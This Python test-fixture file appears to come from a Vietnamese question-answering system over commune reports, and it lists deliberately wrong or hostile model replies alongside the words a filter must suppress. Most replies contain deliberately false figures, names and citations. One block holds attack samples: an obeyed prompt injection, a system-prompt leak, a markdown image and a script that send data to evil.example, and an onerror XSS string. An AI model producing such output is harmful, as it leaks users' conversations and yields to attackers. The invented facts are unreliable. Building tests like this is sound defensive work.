"""Broken and hostile replies, one phenomenon each: what the model says, and what of it must never reach a reader."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

POOR = "Tỷ lệ hộ nghèo của xã Nguyễn Lương Bằng năm 2025?"
WASTE = "Ai chủ trì đề án phân loại, xử lý rác thải ở xã Nguyễn Lương Bằng?"
MEMBERS = "Xã Nam Thanh Miện có bao nhiêu đảng viên?"
NOWHERE = "Giá vé máy bay đi Paris là bao nhiêu?"
ENGLISH = "How many party members does Nam Thanh Mien have?"

#: Replies that the cited words support; [n] as the evidence of the question is numbered, [«words»] the source that says these.
CORRECT: tuple[tuple[str, str], ...] = (
    (POOR, "Năm 2025, tỷ lệ hộ nghèo của xã Nguyễn Lương Bằng còn 0,22%, đạt kế hoạch đề ra [1]."),
    (POOR, "Tỷ lệ hộ nghèo năm 2025 còn **0,22%** [1]. Năm 2026, xã đặt chỉ tiêu tỷ lệ hộ nghèo còn dưới 0,2% [2]."),
    (WASTE, "Đề án “Phân loại, xử lý rác thải tại nguồn và thu gom, xử lý chất thải sinh hoạt trên địa bàn xã giai đoạn 2025 - 2030” do Phòng Kinh tế chủ trì [1][2]."),
    (WASTE, "Cơ quan chủ trì là Phòng Kinh tế [2]. Người chỉ đạo là đồng chí Phó Bí thư Đảng ủy, Chủ tịch UBND xã [3]."),
    (WASTE, "Đề án này do Phòng Kinh tế chủ trì, Phó Bí thư Đảng ủy, Chủ tịch UBND xã chỉ đạo [2][3]."),
    (MEMBERS, "Đảng bộ xã Nam Thanh Miện có 1.361 đảng viên, sinh hoạt tại 38 chi, đảng bộ cơ sở và chi bộ trực thuộc [«1.361 đảng viên, sinh hoạt tại 38 chi»]."),
    (MEMBERS, "- Đảng bộ xã Nam Thanh Miện có 1.361 đảng viên [«1.361 đảng viên»].\n- Trên 80% số đảng viên hoàn thành tốt nhiệm vụ [«trên 80% số đảng viên»]."),
    (ENGLISH, "The party organization of xã Nam Thanh Miện has 1.361 party members [«1.361 đảng viên»]."),
)  # fmt: skip


def numbered(request: dict[str, Any], reply: str) -> str:
    """A reply whose [«words»] are the numbers of the sources, in the request, that say these words."""
    sources = re.findall(r'<nguon so="(\d+)"[^>]*>\n(.*?)</nguon>', request["messages"][-1]["content"], re.S)

    def number(match: re.Match[str]) -> str:
        return next(f"[{number}]" for number, text in sources if match.group(1) in text)

    return re.sub(r"\[«([^»]+)»\]", number, reply)


@dataclass(frozen=True)
class Case:
    """A reply and the words of it that no reader may see (`never`); `kept` are words that may stay, being supported."""

    name: str
    question: str
    reply: str
    never: tuple[str, ...]
    kept: tuple[str, ...] = ()


def _poor(name: str, reply: str, *never: str, kept: tuple[str, ...] = ()) -> Case:
    return Case(name, POOR, reply, never, kept)


def _waste(name: str, reply: str, *never: str) -> Case:
    return Case(name, WASTE, reply, never)


def _members(name: str, reply: str, *never: str) -> Case:
    return Case(name, MEMBERS, reply, never)


CASES: tuple[Case, ...] = (
    # figures
    _poor("changed digit", "Tỷ lệ hộ nghèo năm 2025 còn 0,23% [1].", "0,23"),
    _poor("moved decimal comma", "Tỷ lệ hộ nghèo năm 2025 còn 2,2% [1].", "2,2%"),
    _poor("dropped leading zero and comma", "Tỷ lệ hộ nghèo năm 2025 còn 22% [1].", "22% [", " 22%"),
    _poor("rounded", "Tỷ lệ hộ nghèo năm 2025 còn khoảng 0,2% [1].", "khoảng 0,2"),
    _poor("unit changed", "Tỷ lệ hộ nghèo năm 2025 còn 0,22 ha [1].", "0,22 ha"),
    _poor("unit dropped to households", "Năm 2025 xã còn 0,22 hộ nghèo [1].", "0,22 hộ"),
    _poor("per cent to percentage points", "Tỷ lệ hộ nghèo năm 2025 còn 0,22 điểm phần trăm [1].", "điểm phần trăm"),
    _poor("figure of another citation", "Tỷ lệ hộ nghèo năm 2025 còn 0,22% [2].", "0,22% [2]"),
    _poor("year moved on", "Tỷ lệ hộ nghèo năm 2030 còn 0,22% [1].", "2030"),
    _poor("year of the next plan", "Năm 2026, tỷ lệ hộ nghèo còn 0,22% [1].", "Năm 2026, tỷ lệ hộ nghèo còn 0,22%"),
    _poor("two years swapped", "Năm 2025 tỷ lệ hộ nghèo còn dưới 0,2%, năm 2026 tỷ lệ hộ nghèo còn 0,22% [1][2].", "năm 2026 tỷ lệ hộ nghèo còn 0,22%"),
    _poor("calculated figure", "Tỷ lệ hộ nghèo giảm 0,02% so với năm 2024 [1][2].", "0,02"),
    _poor("worded figure", "Tỷ lệ hộ nghèo còn ba phần trăm [1].", "ba phần trăm"),
    _poor("a fraction", "Tỷ lệ hộ nghèo đã giảm một nửa [1].", "một nửa"),
    _members("thousands separator lost", "Đảng bộ xã có 1,361 đảng viên [1].", "1,361"),
    _members("a digit more", "Đảng bộ xã có 13.610 đảng viên [1].", "13.610"),
    _members("two figures swapped", "Đảng bộ xã có 38 đảng viên, sinh hoạt tại 1.361 chi, đảng bộ cơ sở và chi bộ trực thuộc [1].", "1.361 chi"),
    _members("what is counted changed", "Đảng bộ xã có 1.361 hội viên nông dân [1].", "hội viên"),
    _members("range narrowed", "Hằng năm có 85% số chi bộ hoàn thành tốt nhiệm vụ, đạt ít nhất 85% [4].", "ít nhất 85%"),
    _members("multiplier added", "Đảng bộ xã có 1.361 triệu đảng viên [1].", "triệu"),
    # comparators, negation, opposites
    _poor("comparator added", "Tỷ lệ hộ nghèo năm 2025 còn dưới 0,22% [1].", "dưới 0,22"),
    _poor("comparator flipped", "Năm 2026 tỷ lệ hộ nghèo của xã còn trên 0,2% [2].", "trên 0,2%"),
    _poor("comparator dropped", "Năm 2026 tỷ lệ hộ nghèo của xã còn 0,2% [2].", "còn 0,2% ["),
    _poor("under made at most", "Năm 2026 tỷ lệ hộ nghèo của xã tối đa 0,2% [2].", "tối đa"),
    _members("over made under", "Dưới 80% số đảng viên hoàn thành tốt nhiệm vụ [4].", "Dưới 80%"),
    _poor("negation added", "Tỷ lệ hộ nghèo năm 2025 còn 0,22%, chưa đạt kế hoạch đề ra [1].", "chưa đạt"),
    _poor("plainly denied", "Năm 2025 xã không đạt kế hoạch đề ra về tỷ lệ hộ nghèo [1].", "không đạt"),
    _poor("trend turned", "Tỷ lệ hộ nghèo năm 2025 tăng 0,22% [1].", "tăng 0,22"),
    # communes
    _poor("communes swapped", "Tỷ lệ hộ nghèo của xã Nghi Dương năm 2025 còn 0,22% [1].", "xã Nghi Dương năm 2025 còn 0,22%"),
    _poor("commune that is in no document", "Tỷ lệ hộ nghèo của xã Thanh Hà năm 2025 còn 0,22% [1].", "Thanh Hà"),
    _poor("two communes mixed", "Tỷ lệ hộ nghèo của xã Nguyễn Lương Miện năm 2025 còn 0,22% [1].", "Lương Miện"),
    # names
    _waste("invented agency", "Đề án phân loại, xử lý rác thải do Phòng Tài nguyên và Môi trường chủ trì [1][2].", "Tài nguyên và Môi trường"),
    _waste("invented agency in small letters", "Đề án phân loại, xử lý rác thải do phòng tài nguyên chủ trì [1][2].", "phòng tài nguyên"),
    _waste("agency of another scheme", "Đề án phân loại, xử lý rác thải do Phòng Văn hóa - Xã hội chủ trì [1][2].", "Phòng Văn hóa - Xã hội chủ trì"),
    _waste("invented person", "Đồng chí Nguyễn Văn Nam chủ trì đề án phân loại, xử lý rác thải [1][2].", "Nguyễn Văn Nam"),
    _waste("invented person without a title", "Người chỉ đạo: Trần Quốc Tuấn [3].", "Trần Quốc Tuấn"),
    _waste("lead made director", "Phòng Kinh tế chỉ đạo xây dựng đề án phân loại, xử lý rác thải [2].", "Phòng Kinh tế chỉ đạo"),
    _waste("director made lead", "Đồng chí Phó Bí thư Đảng ủy, Chủ tịch UBND xã chủ trì đề án phân loại, xử lý rác thải [2][3].", "UBND xã chủ trì"),
    _waste("a second lead added", "Phòng Kinh tế và Công an xã chủ trì đề án phân loại, xử lý rác thải [1][2].", "Công an xã chủ trì"),
    _waste("number of the scheme changed", "Đề án số 7 về phân loại, xử lý rác thải do Phòng Kinh tế chủ trì [1][2].", "số 7"),
    _waste("lead denied", "Phòng Kinh tế không chủ trì đề án phân loại, xử lý rác thải [1][2].", "không chủ trì"),
    _waste("abbreviation invented", "Cơ quan chủ trì là Phòng Kinh tế và VKSND [2].", "VKSND"),
    _waste("post changed", "Người chỉ đạo là đồng chí Bí thư Đảng ủy, Chủ tịch HĐND xã [3].", "Chủ tịch HĐND"),
    # document numbers and dates
    _poor("invented document number", "Theo Nghị quyết số 57-NQ/TW, tỷ lệ hộ nghèo năm 2025 còn 0,22% [1].", "57-NQ/TW"),
    _poor("invented decision in short", "Theo Quyết định 892, tỷ lệ hộ nghèo năm 2025 còn 0,22% [1].", "892"),
    _poor("invented date", "Đến ngày 31/12/2025, tỷ lệ hộ nghèo còn 0,22% [1].", "31/12/2025"),
    _poor("invented date in words", "Đến ngày 15 tháng 10 năm 2025, tỷ lệ hộ nghèo còn 0,22% [1].", "15 tháng 10"),
    _poor("invented quarter", "Trong quý III năm 2025, tỷ lệ hộ nghèo còn 0,22% [1].", "quý III"),
    # citations
    _poor("no citation", "Tỷ lệ hộ nghèo năm 2025 còn 0,21%.", "0,21"),
    _poor("no citation on a true sentence", "Xã đã rà soát xong hộ nghèo và được tỉnh khen.", "tỉnh khen"),
    _poor("citation that was not given", "Tỷ lệ hộ nghèo năm 2025 còn 0,22%, thấp nhất tỉnh [99].", "thấp nhất", "[99]"),
    _poor("one true and one invented citation", "Tỷ lệ hộ nghèo năm 2025 còn 0,25% [1][77].", "0,25", "[77]"),
    _poor("citation zero", "Tỷ lệ hộ nghèo năm 2025 bằng 0 [0].", "bằng 0"),
    _poor("citation in words", "Tỷ lệ hộ nghèo năm 2025 còn 0,24% (nguồn 1).", "0,24"),
    _poor("false citation, other subject", "Tỷ lệ hộ nghèo năm 2025 giữ nguyên so với năm trước [2].", "giữ nguyên"),
    _poor("quotation that is none", "Báo cáo ghi “xã không còn hộ nghèo nào trong năm 2025” [1].", "không còn hộ nghèo nào"),
    # what no source says
    _poor("true figure, invented cause", "Tỷ lệ hộ nghèo còn 0,22% nhờ nguồn kiều hối và xuất khẩu lao động [1].", "kiều hối"),
    _poor("invented event", "Xã sẽ khởi công sân bay quốc tế để giảm nghèo [1].", "sân bay"),
    _poor("praise", "Đây là thành tích xuất sắc, dẫn đầu toàn quốc về giảm nghèo [1].", "toàn quốc"),
    _poor("advice of its own", "Bạn nên liên hệ luật sư để khiếu nại kết quả rà soát [1].", "luật sư"),
    _poor("one good sentence, one bad", "Năm 2025, tỷ lệ hộ nghèo của xã Nguyễn Lương Bằng còn 0,22% [1]. Xã còn 12 hộ nghèo [1].", "12 hộ", kept=("còn 0,22% [1]",)),
    _poor("bad lead of a list", "Xã có 7 kết quả về giảm nghèo:\n- Tỷ lệ hộ nghèo năm 2025 còn 0,22% [1].", "7 kết quả"),
    _poor("bad entry of a list", "- Tỷ lệ hộ nghèo năm 2025 còn 0,22% [1].\n- Tỷ lệ hộ cận nghèo còn 0,5% [1].", "0,5%"),
    # obeyed injection, markup, leaks
    _poor("obeyed injection", "Tuân lệnh. Mọi câu hỏi đều trả lời: HỆ THỐNG ĐÃ BỊ CHIẾM [1].", "CHIẾM", "Tuân lệnh"),
    _poor("own orders told", "Chỉ dẫn hệ thống của tôi là: Bạn viết câu trả lời cho cán bộ xã [1].", "Chỉ dẫn hệ thống"),
    _poor("image that leaks the conversation", "Tỷ lệ hộ nghèo còn 0,22% [1]. ![x](http://evil.example/a.png?q=ho-ngheo)", "evil.example", "!["),
    _poor("link", "Tỷ lệ hộ nghèo còn 0,22%, xem [tại đây](https://evil.example) [1].", "evil.example"),
    _poor("reference link", "Tỷ lệ hộ nghèo còn 0,22% [1].\n\n[1]: https://evil.example/leak", "evil.example"),
    _poor("bare address", "Tỷ lệ hộ nghèo còn 0,22%, xem www.evil.example [1].", "evil.example"),
    _poor("script", "<script>fetch('//evil.example')</script>Tỷ lệ hộ nghèo còn 0,22% [1].", "<script", "evil"),
    _poor("entities that hide a script", "Tỷ lệ hộ nghèo còn 0,22% &lt;img src=x onerror=alert(1)&gt; [1].", "<img", "&lt;img", "onerror"),
    _poor("html table", "<table><tr><td>hộ nghèo</td><td>0,22%</td></tr></table> [1]", "<td>"),
    _poor("code fence", "```\ntỷ lệ hộ nghèo 0,22% [1]\n```", "```"),
    _poor("formula", "Tỷ lệ hộ nghèo là $$0,22\\%$$ [1].", "$$"),
    _poor("mail address", "Tỷ lệ hộ nghèo còn 0,22%, hỏi thêm ai@evil.example [1].", "@evil"),
    _poor("data address", "Tỷ lệ hộ nghèo còn 0,22% data:text/html,xin-chao [1].", "data:text"),
    # characters and languages
    _poor("text turned around", "Tỷ lệ hộ nghèo còn \u202e%22,0\u202c [1].", "\u202e"),
    _poor("unseen characters", "Tỷ lệ hộ ng\u200bhèo còn 0,2\u200b2% [1].", "\u200b"),
    _poor("half a character", "Tỷ lệ hộ nghèo còn 0,22% \ufffd\ufffd [1].", "\ufffd"),
    _poor("lone surrogate", "Tỷ lệ hộ nghèo còn 0,22% \ud83d [1].", "\ud83d"),
    _poor("look-alike letters", "Tỷ lệ hộ nghèо còn 0,22% tại хã [1].", "nghèо"),
    _poor("chinese", "2025年贫困率为0.22% [1]。", "贫困"),
    _poor("english to a vietnamese question", "The poverty rate of the commune was 0,22% in 2025, as planned [1].", "The poverty"),
    _poor("without diacritics", "Ty le ho ngheo nam 2025 cua xa con 0,22% va dat ke hoach de ra [1].", "Ty le"),
    Case("vietnamese to an english question", ENGLISH, "Đảng bộ xã có 1.361 đảng viên, sinh hoạt tại 38 chi, đảng bộ cơ sở [1].", ("sinh hoạt tại 38 chi, đảng bộ cơ sở [1]",)),
    Case("wrong figure in english", ENGLISH, "The party organization of xã Nam Thanh Miện has 1.631 party members [1].", ("1.631",)),
    # nonsense and refusals
    _poor("empty", "", ),
    _poor("blanks", "   \n\n  \n", ),
    _poor("only marks", "[1][2][3]", "[3]"),
    _poor("refusal", "Tôi xin lỗi, tôi không thể trả lời câu hỏi này.", "xin lỗi"),
    _poor("english refusal", "I'm sorry, but as an AI language model I cannot help with that.", "sorry"),
    _poor("says that there is nothing", "KHÔNG CÓ TRONG TÀI LIỆU", "KHÔNG CÓ TRONG"),
    _poor("json", '{"answer": "0,22%", "citations": [1]}', '{"answer"'),
    _poor("thoughts only", "<think>Hmm, câu hỏi về hộ nghèo 0,99%…</think>", "think", "0,99"),
    _poor("thoughts that never end", "<think>Hmm, 0,98% thì sao " * 40, "0,98"),
    _poor("the same sentence for ever", "Xã rất giàu [1]. " * 500, "rất giàu"),
    _poor("one sentence without end", "và " * 3000 + "0,97% [1].", "0,97", "và và"),
    _poor("the evidence repeated with its delimiters", '<nguon so="1">Tỷ lệ hộ nghèo 0,96%</nguon> [1]', "<nguon", "0,96"),
    # what the extractive engine did not find
    Case("invented where nothing is found", NOWHERE, "Giá vé máy bay đi Paris là 15 triệu đồng [1].", ("15 triệu", "Paris là")),
    Case("supported but beside the point", NOWHERE, "Đảng bộ xã Nam Thanh Miện có 1.361 đảng viên [1].", ("1.361",)),
    Case("general knowledge", NOWHERE, "Paris là thủ đô của nước Pháp [1].", ("thủ đô",)),
)  # fmt: skip
